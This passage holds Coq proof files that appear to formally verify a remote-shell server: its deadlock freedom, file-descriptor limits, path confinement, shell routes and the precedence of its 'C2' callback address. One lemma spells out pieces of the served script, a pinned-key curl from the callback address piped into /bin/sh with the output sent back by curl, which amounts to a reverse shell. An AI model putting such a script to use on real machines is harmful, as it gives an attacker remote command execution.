          (repeat split; [exact Hl | intros Hn; right; exact (Hd Hn)]).
    + match goal with |- context [if ?c then _ else _] => destruct c eqn:Ec end.
      * exists [l ++ [10]]. cbn. repeat split; [lia|]. intros _. left. reflexivity.
      * match goal with |- context [deliver f ?a ?b] =>
          destruct (IH a b) as (last & E & Hl & Hd); destruct (deliver f a b) as [s2 o] end.
        cbn [fst snd st_id] in *. exists last.
        match goal with |- context [if ?c then _ else _] => destruct c end; cbn; rewrite E;
          (repeat split; [exact Hl | intros Hn; right; exact (Hd Hn)]).
Qed.

(** A read of the attached output stream: the data is displayed exactly once,
    unmodified, before any closure notice, and logged exactly once. *)
Lemma data_step s id data e x : get s id = Some x -> st_ph x = PAttached -> sd_dir (st_d x) = DOut ->
  exists tail ltail,
    o_och (snd (step s (OData id data e))) = (match data with [] => [] | _ => [OPlain data] end) ++ tail /\
    (forall d, ~ In (OPlain d) tail) /\
    o_log (snd (step s (OData id data e))) = (match data with [] => [] | _ => [Log (LIO data) id] end) ++ ltail /\
    (forall d i, ~ In (Log (LIO d) i) ltail).
Proof.
  intros Hg Hp Hd. unfold step. rewrite Hg, Hp, Hd.
  destruct data as [|b0 data]; destruct e as [[| | |]|]; cbn.
  all: try (destruct (negb (is_bidir (sd_key (st_d x))) || false)).
  all: try (destruct (negb (is_bidir (sd_key (st_d x))) || true)).
  all: eexists _, _; (split; [reflexivity|]); (split; [|split; [reflexivity|]]);
       cbn; intros; intro Hin; repeat (destruct Hin as [Hin|Hin]; [discriminate|]); exact Hin.
Qed.
