From Coq Require Import List Arith Lia.
From CRS Require Import Model.ConvFds.
Import ListNotations.

Lemma peak_dir_from n : forall top, peak_from 0 top (dir_trace n) = match n with 0 => top | S _ => Nat.max top 1 end.
Proof.
  induction n as [|n IH]; intros top; [reflexivity|].
  unfold dir_trace. cbn [repeat concat per_file app peak_from pred]. fold (dir_trace n). rewrite IH.
  destruct n; [reflexivity|]. lia.
Qed.

(** However many eligible files a directory holds, at most ONE of them is open at any time. *)
Theorem dir_peak n : peak (dir_trace n) <= 1.
Proof. unfold peak. rewrite peak_dir_from. destruct n; cbn; lia. Qed.

Theorem dir_fits held limit n : held + 1 < limit -> fits held limit (dir_trace n) = true.
Proof. intros H. unfold fits. apply Nat.ltb_lt. pose proof (dir_peak n). lia. Qed.

Lemma peak_closes k : forall cur top, peak_from cur top (repeat FClose k) = top.
Proof. induction k as [|k IH]; intros cur top; [reflexivity|]. cbn [repeat peak_from]. apply IH. Qed.

Lemma peak_opens n rest : forall cur top, cur <= top ->
  peak_from cur top (repeat FOpen n ++ rest) = peak_from (cur + n) (Nat.max top (cur + n)) rest.
Proof.
  induction n as [|n IH]; intros cur top H.
  - cbn [repeat app]. rewrite Nat.add_0_r. f_equal. lia.
  - cbn [repeat app peak_from]. rewrite IH by lia. f_equal; lia.
Qed.

(** Closing only at the end keeps every file open: the peak is the number of files - no limit survives a big enough directory. *)
Theorem leaky_peak n : peak (leaky_trace n) = n.
Proof. unfold peak, leaky_trace. rewrite peak_opens by lia. rewrite peak_closes. lia. Qed.

Theorem leaky_refuted limit : exists n, fits 0 limit (leaky_trace n) = false.
Proof. exists limit. unfold fits. rewrite leaky_peak. apply Nat.ltb_ge. lia. Qed.

Example fds_example : peak (dir_trace 180) = 1 /\ fits 10 96 (dir_trace 180) = true /\ fits 10 96 (leaky_trace 180) = false.
Proof. vm_compute. repeat split; reflexivity. Qed.
