(** C19: Ctrl+O cannot dead-lock the terminal (repaired code), and could before. *)
From CRS Require Import Lib.Bytes Model.LockOrder.

Lemma set_nth_same l : forall j v x, nth_error l j = Some x -> nth_error (set_nth l j v) j = Some v.
Proof. induction l as [|y l IH]; intros [|j] v x H; cbn in *; try discriminate; [reflexivity | eapply IH; exact H]. Qed.
Lemma set_nth_other l : forall j k v, j <> k -> nth_error (set_nth l j v) k = nth_error l k.
Proof.
  induction l as [|y l IH]; intros [|j] [|k] v H; cbn; try reflexivity; try congruence.
  apply IH. congruence.
Qed.
Lemma set_nth_length l : forall j v, length (set_nth l j v) = length l.
Proof. induction l as [|y l IH]; intros [|j] v; cbn; try reflexivity. f_equal. apply IH. Qed.

Definition run_new (s : lst) (sched : list who) : lst := fold_left lstep_new sched s.
Definition run_old (s : lst) (sched : list who) : lst := fold_left lstep_old sched s.

(** who holds what, read off the program counters *)
Record LInv (s : lst) : Prop := {
  l_tk : tl s = Some Key <-> (kpc s = 1 \/ kpc s = 2)%nat;
  l_tw : forall j, tl s = Some (Writer j) <-> nth_error (wpc s) j = Some 2%nat;
  l_tm : tl s <> Some Muter;
  l_wm : wl s = Some Muter <-> mpc s = Some 1%nat;
  l_ww : forall j, wl s = Some (Writer j) <-> (nth_error (wpc s) j = Some 1 \/ nth_error (wpc s) j = Some 2 \/ nth_error (wpc s) j = Some 3)%nat;
  l_wk : wl s <> Some Key;
  l_m : mpc s = None <-> (kpc s <= 1)%nat;
  l_k : (kpc s <= 3)%nat
}.

Lemma LInv_init n : LInv (linit n).
Proof.
  constructor; cbn.
  - split; [discriminate | intros [H|H]; discriminate].
  - intros j. split; [discriminate|]. intros H. apply nth_error_In, repeat_spec in H. discriminate.
  - discriminate.
  - split; discriminate.
  - intros j. split; [discriminate|]. intros [H|[H|H]]; apply nth_error_In, repeat_spec in H; discriminate.
  - discriminate.
  - split; [intros _; lia | reflexivity].
  - lia.
Qed.

Ltac nthsplit j k Hn :=
  destruct (Nat.eq_dec j k) as [<-|Hne];
  [rewrite (set_nth_same _ _ _ _ Hn) | rewrite (set_nth_other _ _ _ _ Hne)].

Lemma LInv_writer s j : LInv s -> LInv (writer_step s j).
Proof.
  intros H. unfold writer_step. destruct (nth_error (wpc s) j) as [c|] eqn:Hn; [|exact H].
  pose proof (l_tw _ H j) as Tj. pose proof (l_ww _ H j) as Wj. rewrite Hn in Tj, Wj.
  destruct H as [H1 H2 H3 H4 H5 H6 H7 H8].
  destruct c as [|[|[|[|c]]]].
  - (* lock W *)
    destruct (wl s) eqn:Ew; cbn [free]; [constructor; rewrite ?Ew; assumption|].
    constructor; cbn [tl wl kpc mpc wpc]; try assumption; try congruence.
    + intros k. specialize (H2 k). nthsplit j k Hn; [|exact H2]. split; [intros X; rewrite X in Tj; destruct Tj as [Tj _]; specialize (Tj eq_refl); discriminate | discriminate].
    + split; [discriminate|]. intros X. apply H4 in X. discriminate.
    + intros k. specialize (H5 k). nthsplit j k Hn.
      * split; [intros _; left; reflexivity | reflexivity].
      * split; [intros X; congruence|]. intros X. apply H5 in X. discriminate.
  - (* lock T *)
    destruct (tl s) eqn:Et; cbn [free]; [constructor; rewrite ?Et; assumption|].
    constructor; cbn [tl wl kpc mpc wpc]; try assumption; try congruence.
    + split; [discriminate|]. intros X. apply H1 in X. discriminate.
    + intros k. specialize (H2 k). nthsplit j k Hn.
      * split; reflexivity.
      * split; [intros X; congruence|]. intros X. apply H2 in X. discriminate.
    + intros k. specialize (H5 k). nthsplit j k Hn; [|exact H5].
      split; [intros _; right; left; reflexivity|]. intros _. apply Wj. left. reflexivity.
  - (* unlock T *)
    assert (Et : tl s = Some (Writer j)) by (apply Tj; reflexivity).
    constructor; cbn [tl wl kpc mpc wpc]; try assumption; try congruence.
    + split; [discriminate|]. intros X. apply H1 in X. congruence.
    + intros k. specialize (H2 k). nthsplit j k Hn.
      * split; discriminate.
      * split; [discriminate|]. intros X. apply H2 in X. congruence.
    + intros k. specialize (H5 k). nthsplit j k Hn; [|exact H5].
      split; [intros _; right; right; reflexivity|]. intros _. apply Wj. right. left. reflexivity.
  - (* unlock W *)
    assert (Ew : wl s = Some (Writer j)) by (apply Wj; right; right; reflexivity).
    constructor; cbn [tl wl kpc mpc wpc]; try assumption; try congruence.
    + intros k. specialize (H2 k). nthsplit j k Hn; [|exact H2].
      split; [intros X; apply Tj in X; discriminate | discriminate].
    + split; [discriminate|]. intros X. apply H4 in X. congruence.
    + intros k. specialize (H5 k). nthsplit j k Hn.
      * split; [discriminate | intros [X|[X|X]]; discriminate].
      * split; [discriminate|]. intros X. apply H5 in X. congruence.
  - constructor; assumption.
Qed.

Lemma LInv_step s w : LInv s -> LInv (lstep_new s w).
Proof.
  intros H. destruct w as [| |j]; [| |apply LInv_writer; exact H]; cbn [lstep_new].
  - (* the key handler *)
    destruct H as [H1 H2 H3 H4 H5 H6 H7 H8].
    destruct (kpc s) as [|[|[|k]]] eqn:Ek.
    + destruct (tl s) eqn:Et; cbn [free]; [constructor; rewrite ?Et, ?Ek; assumption|].
      constructor; cbn [tl wl kpc mpc wpc]; try assumption; try congruence; try lia.
      * split; [intros _; left; reflexivity | reflexivity].
      * intros j. specialize (H2 j). split; [discriminate|]. intros X. apply H2 in X. discriminate.
      * split; [intros _; lia|]. intros _. apply H7. lia.
    + assert (Et : tl s = Some Key) by (apply H1; left; reflexivity).
      constructor; cbn [tl wl kpc mpc wpc]; try assumption; try congruence; try lia.
      * split; [intros _; right; reflexivity | intros _; exact Et].
      * split; [|discriminate]. intros X. apply H4 in X. assert (Y : mpc s = None) by (apply H7; lia). congruence.
      * split; [discriminate | lia].
    + assert (Et : tl s = Some Key) by (apply H1; right; reflexivity).
      constructor; cbn [tl wl kpc mpc wpc]; try assumption; try congruence; try lia.
      * split; [discriminate | intros [X|X]; discriminate].
      * intros j. specialize (H2 j). split; [discriminate|]. intros X. apply H2 in X. congruence.
      * split; [intros X; apply H7 in X; lia | lia].
    + constructor; rewrite ?Ek; assumption.
  - (* the goroutine started by the handler *)
    destruct H as [H1 H2 H3 H4 H5 H6 H7 H8].
    destruct (mpc s) as [[|[|m]]|] eqn:Em.
    + destruct (wl s) eqn:Ew; cbn [free]; [constructor; rewrite ?Ew, ?Em; assumption|].
      constructor; cbn [tl wl kpc mpc wpc]; try assumption; try congruence; try lia.
      * split; reflexivity.
      * intros j. specialize (H5 j). split; [discriminate|]. intros X. apply H5 in X. discriminate.
      * split; [discriminate|]. intros X. apply H7 in X. discriminate.
    + assert (Ew : wl s = Some Muter) by (apply H4; reflexivity).
      constructor; cbn [tl wl kpc mpc wpc]; try assumption; try congruence; try lia.
      * split; discriminate.
      * intros j. specialize (H5 j). split; [discriminate|]. intros X. apply H5 in X. congruence.
      * split; [discriminate|]. intros X. apply H7 in X. discriminate.
    + constructor; rewrite ?Em; assumption.
    + constructor; rewrite ?Em; assumption.
Qed.

Lemma LInv_reachable n sched : LInv (run_new (linit n) sched).
Proof.
  unfold run_new. generalize (LInv_init n). generalize (linit n).
  induction sched as [|w r IH]; intros s H; [exact H|]. cbn. apply IH, LInv_step, H.
Qed.

(** writers' program counters stay within their program *)
Definition WB (s : lst) : Prop := Forall (fun c => (c <= 4)%nat) (wpc s).
Lemma set_nth_Forall (P : nat -> Prop) l : forall j v, Forall P l -> P v -> Forall P (set_nth l j v).
Proof.
  induction l as [|y l IH]; intros [|j] v H Hv; cbn; try constructor; inversion H; subst; auto.
Qed.
Lemma WB_step s w : WB s -> WB (lstep_new s w).
Proof.
  unfold WB. intros H. destruct w as [| |j]; cbn [lstep_new].
  - destruct (kpc s) as [|[|[|k]]]; try exact H; destruct (free (tl s)); exact H.
  - destruct (mpc s) as [[|[|m]]|]; try exact H; destruct (free (wl s)); exact H.
  - unfold writer_step. destruct (nth_error (wpc s) j) as [[|[|[|[|c]]]]|]; try exact H;
      try destruct (free (wl s)); try destruct (free (tl s)); try exact H; cbn [wpc]; apply set_nth_Forall; try exact H; lia.
Qed.
Lemma WB_reachable n sched : WB (run_new (linit n) sched).
Proof.
  unfold run_new. assert (H0 : WB (linit n)) by (unfold WB; cbn; apply Forall_forall; intros x Hx; apply repeat_spec in Hx; lia).
  revert H0. generalize (linit n). induction sched as [|w r IH]; intros s H; [exact H|]. cbn. apply IH, WB_step, H.
Qed.

Lemma unfinished_writer l : Forall (fun c => (c <= 4)%nat) l -> forallb (Nat.eqb 4) l = false ->
  exists j c, nth_error l j = Some c /\ (c <= 3)%nat.
Proof.
  induction 1 as [|y l Hy Hl IH]; cbn; [discriminate|].
  destruct (Nat.eqb_spec 4 y) as [<-|Hne]; cbn.
  - intros H. destruct (IH H) as [j [c [H1 H2]]]. exists (S j), c. split; assumption.
  - intros _. exists 0%nat, y. split; [reflexivity | lia].
Qed.

Lemma writer_moves s j c v : nth_error (wpc s) j = Some c -> c <> v ->
  forall t w k m, pcs {| tl := t; wl := w; kpc := k; mpc := m; wpc := set_nth (wpc s) j v |} <> pcs s.
Proof.
  intros Hn Hc t w k m X. unfold pcs in X. cbn in X. inversion X as [[X1 X2 X3]].
  pose proof (set_nth_same _ _ v _ Hn) as Y. rewrite X3, Hn in Y. congruence.
Qed.

Definition MB (s : lst) : Prop := match mpc s with Some m => (m <= 2)%nat | None => True end.
Lemma MB_step s w : MB s -> MB (lstep_new s w).
Proof.
  unfold MB. intros H. destruct w as [| |j]; cbn [lstep_new].
  - destruct (kpc s) as [|[|[|k]]]; try exact H; try (destruct (free (tl s)); exact H). cbn. lia.
  - destruct (mpc s) as [[|[|m]]|] eqn:Em; try exact H; try (destruct (free (wl s)); cbn; rewrite ?Em; lia); cbn; rewrite ?Em; try lia; exact H.
  - unfold writer_step. destruct (nth_error (wpc s) j) as [[|[|[|[|c]]]]|]; try exact H;
      try destruct (free (wl s)); try destruct (free (tl s)); exact H.
Qed.
Lemma MB_reachable n sched : MB (run_new (linit n) sched).
Proof.
  unfold run_new. assert (H0 : MB (linit n)) by exact I.
  revert H0. generalize (linit n). induction sched as [|w r IH]; intros s H; [exact H|]. cbn. apply IH, MB_step, H.
Qed.

(** ** No dead-lock: in every state of every run of the repaired code, either
    everybody has finished or somebody can move. *)
Theorem no_deadlock n sched :
  let s := run_new (linit n) sched in
  all_done_new s = true \/ exists w, pcs (lstep_new s w) <> pcs s.
Proof.
  cbn zeta. pose proof (LInv_reachable n sched) as H. pose proof (WB_reachable n sched) as HB. pose proof (MB_reachable n sched) as HM.
  set (s := run_new (linit n) sched) in *. destruct H as [H1 H2 H3 H4 H5 H6 H7 H8].
  destruct (tl s) as [[| |j]|] eqn:Et.
  - (* the key handler holds the terminal: it never waits while it does *)
    right. exists Key. cbn [lstep_new]. destruct (proj1 H1 eq_refl) as [E|E]; rewrite E; unfold pcs; cbn; rewrite E; congruence.
  - congruence.
  - (* a writer holds the terminal: it only has to release *)
    right. exists (Writer j). cbn [lstep_new]. unfold writer_step. pose proof (proj1 (H2 j) eq_refl) as E. rewrite E.
    apply (writer_moves s j 2%nat 3%nat E). lia.
  - (* the terminal is free *)
    destruct (wl s) as [[| |j]|] eqn:Ew.
    + congruence.
    + right. exists Muter. cbn [lstep_new]. rewrite (proj1 H4 eq_refl). unfold pcs. cbn. rewrite (proj1 H4 eq_refl). congruence.
    + right. exists (Writer j). cbn [lstep_new]. unfold writer_step.
      destruct (proj1 (H5 j) eq_refl) as [E|[E|E]]; rewrite E.
      * rewrite Et. cbn [free]. apply (writer_moves s j 1%nat 2%nat E). lia.
      * pose proof (proj2 (H2 j) E) as X. discriminate X.
      * apply (writer_moves s j 3%nat 4%nat E). lia.
    + (* both locks free *)
      destruct (kpc s) as [|[|[|k]]] eqn:Ek.
      * right. exists Key. cbn [lstep_new]. rewrite Ek, Et. unfold pcs. cbn. rewrite Ek. congruence.
      * pose proof (proj2 H1 (or_introl eq_refl)) as X. discriminate X.
      * pose proof (proj2 H1 (or_intror eq_refl)) as X. discriminate X.
      * assert (k = 0%nat) as -> by lia.
        unfold MB in HM. destruct (mpc s) as [[|[|m]]|] eqn:Em.
        -- right. exists Muter. cbn [lstep_new]. rewrite Em, Ew. unfold pcs. cbn. rewrite Em. congruence.
        -- pose proof (proj2 H4 eq_refl) as X. discriminate X.
        -- assert (m = 0%nat) as -> by lia.
           destruct (forallb (Nat.eqb 4) (wpc s)) eqn:Ef.
           ++ left. unfold all_done_new. rewrite Ek, Em, Ef. reflexivity.
           ++ right. destruct (unfinished_writer _ HB Ef) as [j [c [Hn Hc]]]. exists (Writer j).
              cbn [lstep_new]. unfold writer_step. rewrite Hn.
              destruct c as [|[|[|[|c]]]]; try lia.
              ** rewrite Ew. cbn [free]. apply (writer_moves s j 0%nat 1%nat Hn). lia.
              ** pose proof (proj2 (H5 j) (or_introl Hn)) as X. discriminate X.
              ** pose proof (proj2 (H2 j) Hn) as X. discriminate X.
              ** pose proof (proj2 (H5 j) (or_intror (or_intror Hn))) as X. discriminate X.
        -- pose proof (proj1 H7 eq_refl) as X. lia.
Qed.

(** ** The code before the repair dead-locks: the key handler holds the
    terminal and waits for wL, a writer holds wL and waits for the terminal;
    nobody can ever move again. *)
Definition deadlock_sched : list who := [Key; Writer 0].
Theorem old_deadlocks :
  let s := run_old (linit 1) deadlock_sched in
  kpc s = 1%nat /\ wpc s = [1%nat] /\ forall sched, run_old s sched = s.
Proof.
  cbn zeta. split; [reflexivity|]. split; [reflexivity|].
  intros sched. unfold run_old. induction sched as [|w r IH]; [reflexivity|].
  cbn [fold_left]. replace (lstep_old (fold_left lstep_old deadlock_sched (linit 1)) w) with (fold_left lstep_old deadlock_sched (linit 1)); [exact IH|].
  destruct w as [| |[|j]]; try reflexivity. cbn. destruct j; reflexivity.
Qed.
(** the same schedule on the repaired code: the handler leaves, everybody finishes *)
Example new_same_schedule_finishes :
  all_done_new (run_new (linit 1) (deadlock_sched ++ [Key; Key; Writer 0; Writer 0; Writer 0; Muter; Muter])) = true.
Proof. reflexivity. Qed.
