(** C09: a cleaned rooted path never leaves the root. *)
From CRS Require Import Lib.Bytes Lib.Split Lib.PathClean.
Open Scope N_scope.

Lemma tl_Forall {A} (P : A -> Prop) l : Forall P l -> Forall P (tl l).
Proof. intros H. destruct l; [constructor | inversion H; assumption]. Qed.

Lemma clean_segs_good segs : forall stack,
  Forall (fun s => ~ In 47 s) segs -> Forall good_seg stack -> Forall good_seg (clean_segs segs stack).
Proof.
  induction segs as [|s r IH]; intros stack Hs Hst.
  - cbn. apply Forall_rev. exact Hst.
  - inversion Hs as [|? ? Hs1 Hs2]; subst. cbn [clean_segs].
    destruct (beq s [] || beq s dot) eqn:E1; [apply IH; assumption|].
    destruct (beq s dotdot) eqn:E2; [apply IH; [assumption | apply tl_Forall; assumption]|].
    apply IH; [assumption|]. constructor; [|assumption].
    apply orb_false_iff in E1 as [Ea Eb].
    repeat split; try assumption; intro H; subst.
    + rewrite beq_refl in Ea. discriminate.
    + rewrite beq_refl in Eb. discriminate.
    + rewrite beq_refl in E2. discriminate.
Qed.

(** For EVERY byte string [p] (whatever escapes, dots, slashes, NULs it
    contained before decoding): the cleaned rooted path is "/" or a sequence of
    "/element" with every element non-empty, not ".", not "..", slash-free —
    so [root ++ clean_rooted p] names something lexically inside [root]. *)
Theorem clean_rooted_confined p :
  exists segs, Forall good_seg segs /\ clean_rooted p = join_rooted segs.
Proof.
  exists (clean_segs (split_on 47 p) []). split; [|reflexivity].
  apply clean_segs_good; [apply split_on_pieces | constructor].
Qed.

Lemma clean_rooted_starts_with_slash p : exists r, clean_rooted p = 47 :: r.
Proof.
  unfold clean_rooted, join_rooted. destruct (clean_segs (split_on 47 p) []) as [|s l]; [exists []; reflexivity|].
  cbn. eexists. reflexivity.
Qed.

(** Cleaning is idempotent on its own output's elements: re-cleaning keeps every good element. *)
Lemma clean_segs_id segs : forall stack, Forall good_seg segs -> clean_segs segs stack = rev stack ++ segs.
Proof.
  induction segs as [|s r IH]; intros stack H; [cbn; rewrite app_nil_r; reflexivity|].
  inversion H as [|? ? (H1 & H2 & H3 & H4) Hr]; subst. cbn [clean_segs].
  assert (beq s [] = false) as -> by (apply not_true_is_false; intro E; apply beq_eq in E; exact (H1 E)).
  assert (beq s dot = false) as -> by (apply not_true_is_false; intro E; apply beq_eq in E; exact (H2 E)).
  assert (beq s dotdot = false) as -> by (apply not_true_is_false; intro E; apply beq_eq in E; exact (H3 E)).
  cbn [orb]. rewrite IH by assumption. cbn [rev]. rewrite <- app_assoc. reflexivity.
Qed.
