(** C07 / C05: the script and one-liner models. *)
From CRS Require Import Lib.Bytes Lib.Base36 Lib.Base64 Model.Script Proofs.CodecProofs Proofs.PerlProofs Model.Perl.
Open Scope N_scope.

(** ** Precedence of the callback address *)
Lemma c2_param r : form_c2 r <> [] -> c2url r = C2 (form_c2 r).
Proof. unfold c2url. intros H. destruct (form_c2 r); [congruence | reflexivity]. Qed.
Lemma c2_header r : form_c2 r = [] -> hdr_c2 r <> [] -> c2url r = C2 (hdr_c2 r).
Proof. unfold c2url. intros -> H. destruct (hdr_c2 r); [congruence | reflexivity]. Qed.
Lemma c2_host r h : form_c2 r = [] -> hdr_c2 r = [] -> host_ascii r = Some h -> h <> [] -> c2url r = C2 h.
Proof. unfold c2url. intros -> -> -> H. destruct h; [congruence | reflexivity]. Qed.
Lemma c2_host_error r : form_c2 r = [] -> hdr_c2 r = [] -> host_ascii r = None -> c2url r = C2Err.
Proof. unfold c2url. intros -> -> ->. reflexivity. Qed.
Lemma c2_sni_443 r : form_c2 r = [] -> hdr_c2 r = [] -> host_ascii r = Some [] -> sni r <> [] -> lport r = txt "443" ->
  c2url r = C2 (sni r).
Proof. unfold c2url. intros -> -> -> H ->. destruct (sni r); [congruence|]. reflexivity. Qed.
Lemma c2_sni_port r : form_c2 r = [] -> hdr_c2 r = [] -> host_ascii r = Some [] -> sni r <> [] -> beq (lport r) (txt "443") = false ->
  existsb (N.eqb 58) (sni r) = false -> c2url r = C2 (sni r ++ [58] ++ lport r).
Proof. unfold c2url. intros -> -> -> H E1 E2. destruct (sni r) eqn:Es; [congruence|]. rewrite E1. rewrite <- Es in *. rewrite E2. reflexivity. Qed.
Lemma c2_nothing r : form_c2 r = [] -> hdr_c2 r = [] -> host_ascii r = Some [] -> sni r = [] -> c2url r = C2Err.
Proof. unfold c2url. intros -> -> -> ->. reflexivity. Qed.

(** ** Both curl commands of a script pin the same key, call the same address, carry the same ID *)
Definition curl_args (line : bytes) : option (bytes * bytes) :=      (* (pin, url) of one curl command line *)
  match after_sub (txt "--pinnedpubkey ""sha256//") line with
  | Some r =>
      let pin := take_while (fun c => negb (c =? 34)) r in
      match after_sub (txt """ https://") r with
      | Some u => Some (pin, take_while (fun c => negb (c =? 32)) u)
      | None => None
      end
  | None => None
  end.

Lemma after_sub_app_here m r : after_sub m (m ++ r) = Some r.
Proof.
  destruct m as [|x m]; [destruct r; reflexivity|].
  cbn [app after_sub]. assert (bprefix (x :: m) (x :: m ++ r) = true) as ->.
  { apply bprefix_spec. exists r. reflexivity. }
  f_equal. change (x :: m ++ r) with ((x :: m) ++ r).
  generalize (x :: m). intros l. induction l as [|y l IH]; [reflexivity | exact IH].
Qed.

(** A single-error status never carries a script; a script is only produced from a resolvable address. *)
Lemma handler_error_no_body t fp r id code : script_handler t fp r id = SStatus code -> code = 500 \/ code = 400.
Proof.
  unfold script_handler. destruct t; try (intros H; inversion H; left; reflexivity);
    destruct (c2url r); intros H; inversion H; auto.
Qed.

Lemma handler_default t fp r id url : t = TDefault -> c2url r = C2 url ->
  script_handler t fp r id = SOk (script_for fp url id).
Proof. intros -> E. unfold script_handler. rewrite E. reflexivity. Qed.

(** The script is a function of (fingerprint, address, ID) only: both commands
    are built from the same three values. *)
Lemma script_shape fp url id :
  exists a b c, script_for fp url id =
    a ++ curl_cmd fp url ++ txt "/i/" ++ id ++ b ++ curl_cmd fp url ++ txt "/o/" ++ id ++ c.
Proof.
  exists (txt "#!/bin/sh

"), (txt " </dev/null 2>&0 |
/bin/sh 2>&1 |
"), (txt " -T- >/dev/null 2>&1
").
  unfold script_for. repeat rewrite <- app_assoc. reflexivity.
Qed.

(** ** One-liners: the pin position holds exactly the fingerprint *)
Definition pin_of_oneliner (l : bytes) : option bytes :=
  match after_sub (txt "--pinnedpubkey sha256//") l with
  | Some r => Some (take_while (fun c => negb (c =? 32)) r)
  | None => None
  end.

Lemma after_pinned tail :
  after_sub (txt "--pinnedpubkey sha256//") (txt "curl -sk --pinnedpubkey sha256//" ++ tail) = Some tail.
Proof. vm_compute. reflexivity. Qed.

Lemma oneliner_pin fp addr suffix : ~ In 32 fp ->
  pin_of_oneliner (oneliner fp addr suffix) = Some fp.
Proof.
  intros H. unfold pin_of_oneliner, oneliner. rewrite after_pinned. f_equal.
  change (txt " https://" ++ addr ++ suffix) with (32 :: (txt "https://" ++ addr ++ suffix)).
  apply take_while_app_stop; [|reflexivity].
  apply Forall_forall. intros x Hx. apply negb_true_iff, N.eqb_neq. intro; subst; exact (H Hx).
Qed.

(** ** Ports *)
Lemma with_port_kept a bound : with_port a true bound = a.  Proof. reflexivity. Qed.
Lemma with_port_bound a bound : existsb (N.eqb 58) a = false -> with_port a false bound = a ++ [58] ++ bound.
Proof. unfold with_port. intros ->. reflexivity. Qed.
