From Coq Require Import List String Bool NArith.
From CRS Require Import Lib.Bytes Model.Files Model.Routes.
Import ListNotations.
Open Scope N_scope.

(** The predicate the file-handler model uses for "this request belongs to a shell endpoint" is exactly
    "one of the shell routes of the routing table matches", for every list of path elements. *)
Theorem shell_segs_are_the_shell_routes segs : is_shell_segs segs = shell_route_matches segs.
Proof.
  unfold shell_route_matches, shell_pats. destruct segs as [|a [|b r]]; cbn [existsb pat_match is_shell_segs].
  - reflexivity.
  - destruct (beq a (txt "i")), (beq a (txt "o")), (beq a (txt "io")), (beq a (txt "c")); reflexivity.
  - destruct (beq a (txt "i")), (beq a (txt "o")), (beq a (txt "io")), (beq a (txt "c")), (beq b []), (beq b [47]), r; reflexivity.
Qed.

Example routes_example : routes_match model_routes = true /\
  routes_match (("/robots.txt", "robotsHandler", false) :: model_routes)%string = false /\
  shell_route_matches [txt "io"; txt "kittens"] = true /\ shell_route_matches [txt "i"; []] = false /\ shell_route_matches [txt "robots.txt"] = false.
Proof. vm_compute. repeat split; reflexivity. Qed.
