(** C14: nothing the command wrote is lost before end-of-file. *)
From CRS Require Import Lib.Bytes Model.CmdShell.
Open Scope N_scope.

Record CInv (o e : bytes) (s : cst) : Prop := {
  ci_o : deliv_o s ++ pipe_o s ++ pend_o s = o;
  ci_e : deliv_e s ++ pipe_e s ++ pend_e s = e;
  ci_done : child_done s = true -> pend_o s = [] /\ pend_e s = [];
  ci_co : copy_o_done s = true -> pipe_o s = [] /\ child_done s = true;
  ci_ce : copy_e_done s = true -> pipe_e s = [] /\ child_done s = true;
  ci_cl : closed s = true -> copy_o_done s = true /\ copy_e_done s = true
}.

Lemma CInv_init o e : CInv o e (cinit o e).
Proof. constructor; cbn; try reflexivity; try discriminate; rewrite ?app_nil_r; reflexivity. Qed.

Lemma move_front (a b c : bytes) k : (a ++ firstn k c) ++ b ++ skipn k c = a ++ b ++ c -> True.
Proof. trivial. Qed.

Ltac rest H3 H4 H5 H6 :=
  cbn; try assumption; try discriminate;
  try (intros Hc; try specialize (H3 Hc); try specialize (H4 Hc); try specialize (H5 Hc); try specialize (H6 Hc);
       intuition congruence);
  try (intuition congruence).

Lemma CInv_next o e s st : CInv o e s -> CInv o e (cnext s st).
Proof.
  intros [H1 H2 H3 H4 H5 H6].
  destruct st as [[|] n cap| |[|] n|[|]|]; cbn [cnext].
  - case_eq (child_done s); intros Ed; [constructor; assumption|].
    constructor.
    + cbn. rewrite <- H1. rewrite <- (firstn_skipn (Nat.min n (cap - length (pipe_o s))) (pend_o s)) at 3.
      rewrite <- !app_assoc. reflexivity.
    + rest H3 H4 H5 H6.
    + rest H3 H4 H5 H6.
    + rest H3 H4 H5 H6.
    + rest H3 H4 H5 H6.
    + rest H3 H4 H5 H6.
  - case_eq (child_done s); intros Ed; [constructor; assumption|].
    constructor.
    + rest H3 H4 H5 H6.
    + cbn. rewrite <- H2. rewrite <- (firstn_skipn (Nat.min n (cap - length (pipe_e s))) (pend_e s)) at 3.
      rewrite <- !app_assoc. reflexivity.
    + rest H3 H4 H5 H6.
    + rest H3 H4 H5 H6.
    + rest H3 H4 H5 H6.
    + rest H3 H4 H5 H6.
  - case_eq (pend_o s); [intros Eo | intros ? ? Eo; constructor; assumption].
    case_eq (pend_e s); [intros Ee | intros ? ? Ee; constructor; assumption].
    constructor.
    + cbn. rewrite <- H1, Eo. reflexivity.
    + cbn. rewrite <- H2, Ee. reflexivity.
    + rest H3 H4 H5 H6.
    + rest H3 H4 H5 H6.
    + rest H3 H4 H5 H6.
    + rest H3 H4 H5 H6.
  - case_eq (copy_o_done s); intros Ec; [constructor; assumption|].
    constructor.
    + cbn. rewrite <- H1. rewrite <- (firstn_skipn n (pipe_o s)) at 3. rewrite <- !app_assoc. reflexivity.
    + rest H3 H4 H5 H6.
    + rest H3 H4 H5 H6.
    + rest H3 H4 H5 H6.
    + rest H3 H4 H5 H6.
    + rest H3 H4 H5 H6.
  - case_eq (copy_e_done s); intros Ec; [constructor; assumption|].
    constructor.
    + rest H3 H4 H5 H6.
    + cbn. rewrite <- H2. rewrite <- (firstn_skipn n (pipe_e s)) at 3. rewrite <- !app_assoc. reflexivity.
    + rest H3 H4 H5 H6.
    + rest H3 H4 H5 H6.
    + rest H3 H4 H5 H6.
    + rest H3 H4 H5 H6.
  - case_eq (pipe_o s); [intros Ep | intros ? ? Ep; constructor; assumption].
    case_eq (child_done s); intros Ed; [|constructor; assumption].
    constructor.
    + cbn. rewrite <- H1, Ep. reflexivity.
    + rest H3 H4 H5 H6.
    + rest H3 H4 H5 H6.
    + rest H3 H4 H5 H6.
    + rest H3 H4 H5 H6.
    + rest H3 H4 H5 H6.
  - case_eq (pipe_e s); [intros Ep | intros ? ? Ep; constructor; assumption].
    case_eq (child_done s); intros Ed; [|constructor; assumption].
    constructor.
    + rest H3 H4 H5 H6.
    + cbn. rewrite <- H2, Ep. reflexivity.
    + rest H3 H4 H5 H6.
    + rest H3 H4 H5 H6.
    + rest H3 H4 H5 H6.
